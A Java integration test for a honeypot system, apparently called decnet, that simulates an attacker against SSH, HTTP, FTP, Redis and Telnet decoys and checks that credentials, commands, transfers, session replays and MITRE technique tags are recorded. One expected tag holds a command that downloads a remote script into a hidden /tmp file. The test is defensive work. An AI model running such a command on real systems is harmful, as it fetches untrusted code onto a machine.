package decnet.images;

import static decnet.testing.Await.await;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** One real attack, from the client's keyboard to the operator's screen. */
@Timeout(600)
final class SpineIT {
    private static final String ATTACKER = "127.0.0.1";
    private static final Duration PATIENCE = Duration.ofSeconds(30);

    @Test
    void whatAStrangerDidIsShownOnce() throws Exception {
        Attack.assumeClients();
        try (Installation decnet = Installation.start()) {
            decnet.check(() -> visit(decnet));
        }
    }

    private static void visit(Installation decnet) throws Exception {
        Attack attack = new Attack(decnet);

        Installation.Login ssh = attack.ssh();
        attack.http();
        attack.ftp();
        attack.redis();
        Installation.Login telnet = attack.telnet();

        await(PATIENCE, () -> assertThat(texts(decnet.attacker(ATTACKER).path("sessions"), "end_reason"))
                .as("ends of the sessions")
                .hasSize(6)
                .doesNotContain(""));
        JsonNode shown = decnet.attacker(ATTACKER);
        credentials(shown, ssh, telnet);
        commands(shown);
        downloadAndUpload(decnet, shown);
        sessions(shown);
        replay(decnet, shown);
        techniques(decnet);
        agree(decnet, shown);
    }

    private static void credentials(JsonNode shown, Installation.Login ssh, Installation.Login telnet) {
        JsonNode all = shown.path("credentials");
        assertThat(secrets(all, "ssh"))
                .containsExactly(
                        "rejected " + Attack.SSH_WRONG.getFirst(),
                        "rejected " + Attack.SSH_WRONG.getLast(),
                        "accepted " + ssh.password());
        assertThat(secrets(all, "telnet"))
                .containsExactly("rejected " + Attack.TELNET_WRONG, "accepted " + telnet.password());
        assertThat(secrets(all, "http")).containsExactly("rejected " + Attack.FORM_SECRET);
        assertThat(secrets(all, "redis")).containsExactly("rejected " + Attack.REDIS_SECRET);
        assertThat(secrets(all, "ftp")).singleElement().asString().startsWith("accepted ");
        assertThat(all).hasSize(8);
    }

    private static List<String> secrets(JsonNode credentials, String service) {
        List<String> found = new ArrayList<>();
        credentials.forEach(row -> {
            if (row.path("service").asText().equals(service)) {
                found.add(
                        row.path("outcome").asText() + " " + row.path("secret").asText());
            }
        });
        return found;
    }

    private static void commands(JsonNode shown) {
        List<String> ssh = new ArrayList<>(Attack.SSH_COMMANDS);
        ssh.add("exit");
        List<String> telnet = new ArrayList<>(Attack.TELNET_COMMANDS);
        telnet.add("exit");
        assertThat(typed(shown, "ssh")).containsExactlyElementsOf(ssh);
        assertThat(typed(shown, "telnet")).containsExactlyElementsOf(telnet);
        assertThat(typed(shown, "redis")).containsExactlyElementsOf(Attack.REDIS_COMMANDS);
    }

    private static List<String> typed(JsonNode shown, String service) {
        List<String> lines = new ArrayList<>();
        shown.path("commands").forEach(row -> {
            String command = row.path("command").asText();
            // redis-cli asks for its help texts by itself
            if (row.path("service").asText().equals(service) && !command.startsWith("COMMAND")) {
                lines.add(command);
            }
        });
        return lines;
    }

    private static void downloadAndUpload(Installation decnet, JsonNode shown) throws Exception {
        assertThat(shown.path("downloads")).hasSize(1);
        assertThat(shown.at("/downloads/0/fields/url").asText()).isEqualTo(Attack.DOWNLOAD);
        String hash = HexFormat.of()
                .formatHex(MessageDigest.getInstance("SHA-256")
                        .digest(Attack.UPLOADED.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
        assertThat(shown.path("uploads")).hasSize(1);
        assertThat(shown.at("/uploads/0/name").asText()).endsWith(Attack.UPLOAD);
        assertThat(shown.at("/uploads/0/sha256").asText()).isEqualTo(hash);
        assertThat(blob(decnet, hash)).isEqualTo(Attack.UPLOADED);
    }

    private static String blob(Installation decnet, String hash) throws IOException {
        Path blob =
                decnet.state().resolve("blobs").resolve(hash.substring(0, 2)).resolve(hash);
        return Files.readString(blob);
    }

    private static void sessions(JsonNode shown) {
        assertThat(texts(shown.path("sessions"), "service"))
                .containsExactlyInAnyOrder("ssh", "http", "http", "ftp", "redis", "telnet");
        assertThat(texts(shown.path("sessions"), "id")).doesNotHaveDuplicates();
    }

    private static void replay(Installation decnet, JsonNode shown) {
        for (JsonNode session : shown.path("sessions")) {
            String service = session.path("service").asText();
            if (!service.equals("ssh") && !service.equals("telnet")) {
                continue;
            }
            String replayed = decnet.command(
                            "sessions", "replay", session.path("id").asText(), "--text")
                    .succeeded()
                    .out();
            assertThat(replayed)
                    .as("recording of " + service)
                    .contains(service.equals("ssh") ? Attack.SSH_COMMANDS : Attack.TELNET_COMMANDS);
        }
    }

    private static void techniques(Installation decnet) {
        await(PATIENCE, () -> {
            JsonNode tags = decnet.attacker(ATTACKER).path("tags");
            List<String> found = new ArrayList<>();
            tags.forEach(tag -> found.add(
                    tag.path("technique").asText() + " " + tag.path("command").asText()));
            assertThat(found)
                    .contains("T1033 id", "T1082 uname -a", "T1105 wget http://198.51.100.23/bins/x86.sh -O /tmp/.x")
                    .doesNotHaveDuplicates();
        });
    }

    /** Counters, event list and tables tell one story. */
    private static void agree(Installation decnet, JsonNode shown) {
        JsonNode events = decnet.command("events", "ip:" + ATTACKER, "--json", "--limit", "1000")
                .json();
        assertThat(texts(events, "id")).doesNotHaveDuplicates();
        await(PATIENCE, () -> assertThat(
                        decnet.attacker(ATTACKER).path("event_count").asInt())
                .isEqualTo(events.size()));
        JsonNode profiled = decnet.attacker(ATTACKER);
        assertThat(profiled.path("credential_count").asInt())
                .isEqualTo(shown.path("credentials").size());
        assertThat(profiled.path("command_count").asInt())
                .isEqualTo(shown.path("commands").size());
        assertThat(profiled.path("upload_count").asInt()).isEqualTo(1);
        assertThat(decnet.sql("select count(*) from dead_letter")).isEqualTo("0");
        assertThat(decnet.command("attackers").succeeded().out()).contains(ATTACKER);
    }

    private static List<String> texts(JsonNode rows, String name) {
        List<String> values = new ArrayList<>();
        rows.forEach(row -> values.add(row.path(name).asText()));
        return values;
    }
}
